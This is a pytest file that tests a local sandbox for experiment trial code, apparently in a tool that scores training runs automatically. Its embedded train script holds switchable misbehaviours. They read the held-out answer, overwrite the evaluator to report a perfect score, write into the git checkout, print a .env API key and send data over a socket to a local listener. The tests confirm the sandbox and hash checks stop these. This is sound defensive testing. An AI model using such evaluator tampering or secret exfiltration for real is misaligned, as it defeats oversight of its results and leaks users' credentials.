"""Trial code that misbehaves gains nothing on the local runner: the sandbox holds.

The lab's train script carries five dormant misbehaviours, each switched on by one
constant, and each trial switches one on through the real CLI. Every target lies
inside this test's own temporary lab (the script is given the lab's path; it never
walks up from its scratch directory), so a sandbox that fails cannot harm anything
else on the machine. The same lab run with `sandbox = "none"` shows that each
misbehaviour does work when nothing confines it, so the checks can fail.
"""

from __future__ import annotations

import json
import socket
import subprocess
import sys
import threading

import pytest
from conftest import autolab, git, make_lab

from autolab import config, sandbox
from autolab.gitops import Repo
from autolab.integrity import manifest_at, watched
from autolab.ledger import Ledger
from autolab.records import Job
from autolab.runners.local import LocalRunner

SECRET = "sk-ant-do-not-leak-0123456789"
TARGET = -1.0           # the held-out answer; honest training never gets below 1.0

TRAIN = '''\
"""Trains honestly unless one of the switches below is on."""
import glob, json, math, os, random, socket, subprocess, sys
LR = 0.04
READ_HELDOUT = False
OVERWRITE_EVALUATOR = False
WRITE_CHECKOUT = False
PRINT_ENV_FILE = False
OPEN_SOCKET = False
LAB = {lab!r}
PORT = {port}  # autolab: fixed

out = os.environ["AUTOLAB_OUT"]
noise = random.Random(int(os.environ["AUTOLAB_SEED"])).gauss(0, 0.01)
value = 1.0 + (math.log10(LR) + 2.0) ** 2 + noise
if READ_HELDOUT:
    # where the split sits next to the train data, or anywhere in the lab's state
    found = glob.glob(os.path.join(os.environ["AUTOLAB_DATA"], "..", "heldout", "*.json"))
    found += glob.glob(os.path.join(LAB, ".autolab", "data", "*", "heldout", "*.json"))
    if not found:
        sys.exit("READ_HELDOUT: no held-out split in reach")
    value = json.load(open(found[0]))["target"]
if OVERWRITE_EVALUATOR:
    fake = ("import json, os\\n"
            "json.dump({{'status': 'ok', 'metrics': {{'score': 0.0}}}}, "
            "open(os.environ['AUTOLAB_RESULT'], 'w'))\\n")
    targets = [os.path.join(LAB, "evaluator", "__main__.py")]
    targets += glob.glob(os.path.join(LAB, ".autolab", "evaluators", "*", "evaluator",
                                      "__main__.py"))
    written = 0
    for path in targets:
        try:
            open(path, "w").write(fake)
            written += 1
        except OSError as exc:
            print("OVERWRITE_EVALUATOR:", exc)
    if not written:
        sys.exit("OVERWRITE_EVALUATOR: no evaluator in reach")
if WRITE_CHECKOUT:
    open(os.path.join(LAB, "pwned.txt"), "w").write("pwned")
    subprocess.run(["git", "-C", LAB, "update-ref", "refs/heads/pwned", "HEAD"], check=True)
if PRINT_ENV_FILE:
    sys.exit("PRINT_ENV_FILE: " + open(os.path.join(LAB, ".env")).read())
if OPEN_SOCKET:
    socket.create_connection(("127.0.0.1", PORT), timeout=5).sendall(b"exfiltrated")
with open(os.path.join(out, "model.json"), "w") as f:
    json.dump({{"value": value}}, f)
'''

PREPARE = f'''\
"""FROZEN: writes the train split and the held-out answer."""
import json, os
cache = os.environ["AUTOLAB_CACHE"]
json.dump({{"hint": "none"}}, open(os.path.join(cache, "train", "train.json"), "w"))
json.dump({{"target": {TARGET}}}, open(os.path.join(cache, "heldout", "answer.json"), "w"))
'''

EVALUATOR = '''\
"""FROZEN: the score is the distance from the held-out answer."""
import json, os
value = json.load(open(os.path.join(os.environ["AUTOLAB_ARTIFACT"], "model.json")))["value"]
target = json.load(open(os.path.join(os.environ["AUTOLAB_HELDOUT"], "answer.json")))["target"]
json.dump({"status": "ok", "metrics": {"score": abs(value - target)}},
          open(os.environ["AUTOLAB_RESULT"], "w"))
'''

SWITCHES = ("READ_HELDOUT", "OVERWRITE_EVALUATOR", "WRITE_CHECKOUT", "PRINT_ENV_FILE",
            "OPEN_SOCKET")


class Listener:
    """A TCP port on this machine that records every connection it receives."""

    def __init__(self):
        self.server = socket.create_server(("127.0.0.1", 0))
        self.server.settimeout(0.2)
        self.port = self.server.getsockname()[1]
        self.received: list[bytes] = []
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self.serve, daemon=True)

    def serve(self):
        while not self.stop.is_set():
            try:
                conn, _ = self.server.accept()
            except TimeoutError:
                continue
            with conn:
                conn.settimeout(2)
                try:
                    self.received.append(conn.recv(100))
                except OSError:
                    self.received.append(b"")

    def __enter__(self):
        self.thread.start()
        return self

    def __exit__(self, *exc):
        self.stop.set()
        self.thread.join()
        self.server.close()


def hostile_lab(root, port: int, runner_table: str = ""):
    lab = make_lab(root, init=False)
    (lab / "train" / "train.py").write_text(TRAIN.format(lab=str(lab), port=port))
    (lab / "evaluator" / "__main__.py").write_text(EVALUATOR)
    (lab / "evaluator" / "prepare.py").write_text(PREPARE)
    config = lab / "pyproject.toml"
    config.write_text(config.read_text().replace(
        'train_command =', 'prepare_command = "python -m evaluator.prepare"\ntrain_command =')
        + runner_table)
    (lab / ".gitignore").write_text(".env\n")
    git(lab, "add", "-A")
    git(lab, "commit", "-qm", "a lab whose script can misbehave")
    (lab / ".env").write_text(f"ANTHROPIC_API_KEY={SECRET}\n")
    autolab(lab, "init")
    autolab(lab, "baseline")
    return lab


def evaluator_bytes(lab) -> dict[str, bytes]:
    paths = [lab / "evaluator" / "__main__.py",
             *(lab / ".autolab" / "evaluators").glob("*/evaluator/__main__.py")]
    return {str(p): p.read_bytes() for p in paths}


def rows_of(lab) -> dict:
    return {r.trial_id: r for r in Ledger(Repo(lab), lab / ".autolab").rows()}


needs_bwrap = pytest.mark.skipif(sandbox.probe_bwrap()[0] is None,
                                 reason=f"no sandbox here: {sandbox.probe_bwrap()[1]}")


@needs_bwrap
def test_misbehaving_trials_gain_nothing(tmp_path):
    with Listener() as listener:
        lab = hostile_lab(tmp_path / "lab", listener.port)
        before = evaluator_bytes(lab)
        refs = git(lab, "for-each-ref", "--format=%(refname)", "refs/heads/")
        for switch in SWITCHES:
            proc = autolab(lab, "try", f"{switch}=True")
            assert "sandbox: bwrap (auto:" in proc.stdout, proc.stdout
        honest = autolab(lab, "try", "LR=0.01")   # after them all: an honest trial
    rows = rows_of(lab)
    ended = {rows[f"t{i:04d}"].hypothesis.split()[1]: rows[f"t{i:04d}"] for i in range(1, 6)}
    for switch, row in ended.items():
        # an honest label: the script failed where the sandbox stopped it, and says where
        assert row.status == "crash", (switch, row.status, row.reason)
        assert row.sandbox == "bwrap"
    assert "no held-out split in reach" in ended["READ_HELDOUT"].reason
    assert "no evaluator in reach" in ended["OVERWRITE_EVALUATOR"].reason
    # the lab's path exists in the sandbox only as the empty parents of its scratch dir
    assert "update-ref" in ended["WRITE_CHECKOUT"].reason
    assert "No such file or directory" in ended["PRINT_ENV_FILE"].reason
    assert "Connection refused" in ended["OPEN_SOCKET"].reason
    # nothing gained: no keep, an honest later score, no file, ref, secret or connection
    assert rows["t0006"].status == "keep", honest.stdout
    assert rows["t0006"].metric == pytest.approx(1.0 - TARGET, abs=0.05)
    assert set(evaluator_bytes(lab).values()) == set(before.values()) == {EVALUATOR.encode()}
    assert not (lab / "pwned.txt").exists()
    assert git(lab, "for-each-ref", "--format=%(refname)", "refs/heads/") == refs
    assert git(lab, "status", "--porcelain") == ""
    stored = [json.dumps(r.as_dict()) for r in rows.values()]
    stored += [p.read_text() for p in (lab / ".autolab").rglob("*.json")]
    assert not any(SECRET in text for text in stored)
    assert listener.received == []


@needs_bwrap
def test_network_true_is_recorded_in_the_ledger(tmp_path):
    with Listener() as listener:
        lab = hostile_lab(tmp_path / "lab", listener.port,
                          "\n[tool.autolab.runner]\nnetwork = true\n")
        proc = autolab(lab, "try", "OPEN_SOCKET=True")
    assert "sandbox: bwrap+network (auto:" in proc.stdout and "with network" in proc.stdout
    row = rows_of(lab)["t0001"]
    assert row.sandbox == "bwrap+network" and row.status == "discard", row.reason
    # one connection per seed it ran (a neutral change may earn confirming seeds)
    assert listener.received == [b"exfiltrated"] * len(json.loads(row.seeds))


def test_unconfined_the_same_trials_do_gain(tmp_path):
    """The control: with `sandbox = "none"` every misbehaviour works, in this lab only."""
    with Listener() as listener:
        lab = hostile_lab(tmp_path / "lab", listener.port,
                          '\n[tool.autolab.runner]\nsandbox = "none"\n')
        proc = autolab(lab, "try", "READ_HELDOUT=True")
        assert "sandbox: none" in proc.stdout and "unconfined" in proc.stdout
        for switch in SWITCHES[1:]:
            autolab(lab, "try", f"{switch}=True")
    rows = rows_of(lab)
    assert rows["t0001"].status == "keep" and rows["t0001"].metric == 0.0
    assert rows["t0001"].sandbox == "none"
    assert (lab / "pwned.txt").exists()
    assert "refs/heads/pwned" in git(lab, "for-each-ref", "--format=%(refname)")
    assert SECRET in rows["t0004"].reason
    assert listener.received == [b"exfiltrated"]
    # the overwritten cache is caught by its hash before it scores anything
    assert b"'score': 0.0" in (lab / "evaluator" / "__main__.py").read_bytes()
    assert rows["t0002"].status == "integrity_mismatch", rows["t0002"].reason


def test_a_changed_cache_is_an_integrity_mismatch_then_rebuilt(tmp_path):
    """Checked before every evaluation: a cache changed in mid-run never scores a trial."""
    with Listener() as listener:
        lab = hostile_lab(tmp_path / "lab", listener.port)
    loaded = config.load(lab)
    repo = Repo(lab)
    main = repo.rev("main")
    job = Job("t-honest", main, manifest_at(repo, main, watched(loaded.config)), main, 7)
    runner = LocalRunner(loaded)
    try:
        assert runner.run(job).status == "ok"
        cached = lab / ".autolab" / "evaluators" / main / "evaluator" / "__main__.py"
        cached.write_text(cached.read_text().replace("abs(value - target)", "0.0"))
        changed = runner.run(job)
        assert changed.status == "integrity_mismatch" and "evaluator" in changed.reason
        assert "rebuilt from git" in changed.reason and not changed.metrics
        assert runner.run(job).metrics["score"] > 1.0
        assert cached.read_text() == EVALUATOR                 # rebuilt from git
        data = runner.prepared(main)[2]
        answer = data / "heldout" / "answer.json"
        answer.write_text(json.dumps({"target": 1.0}))
        changed = runner.run(job)
        assert changed.status == "integrity_mismatch" and "prepared data" in changed.reason
        assert runner.run(job).metrics["score"] > 1.0
        assert json.loads(answer.read_text())["target"] == TARGET  # prepared again
    finally:
        runner.close()


@needs_bwrap
def test_no_working_sandbox_refuses_to_run_unless_the_lab_opted_out(tmp_path):
    """A machine where bwrap cannot make namespaces, made real by running autolab itself
    inside a bwrap that forbids nested user namespaces: the run stops, in one line."""
    lab = make_lab(tmp_path / "lab")
    jail = [sandbox.probe_bwrap()[0], "--dev-bind", "/", "/", "--unshare-user",
            "--disable-userns", sys.executable, "-m", "autolab"]
    proc = subprocess.run([*jail, "run", "--trials", "1"], cwd=lab, capture_output=True,
                          text=True, timeout=120)
    assert proc.returncode == 2, proc.stdout + proc.stderr
    error = proc.stderr.strip()
    assert len(error.splitlines()) == 1, error
    assert "no sandbox can confine trial code on this machine" in error
    assert "bwrap cannot create its namespaces here" in error
    assert 'sandbox = "none"' in error and "pyproject.toml" in error
    assert not rows_of(lab)                      # nothing ran, not even the baseline
    config_path = lab / "pyproject.toml"
    config_path.write_text(config_path.read_text() + '\n[tool.autolab.runner]\nsandbox = "none"\n')
    git(lab, "commit", "-qam", "opt out of the sandbox")
    proc = subprocess.run([*jail, "run", "--trials", "1"], cwd=lab, capture_output=True,
                          text=True, timeout=120)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert "sandbox: none" in proc.stdout
    assert {r.sandbox for r in rows_of(lab).values()} == {"none"}
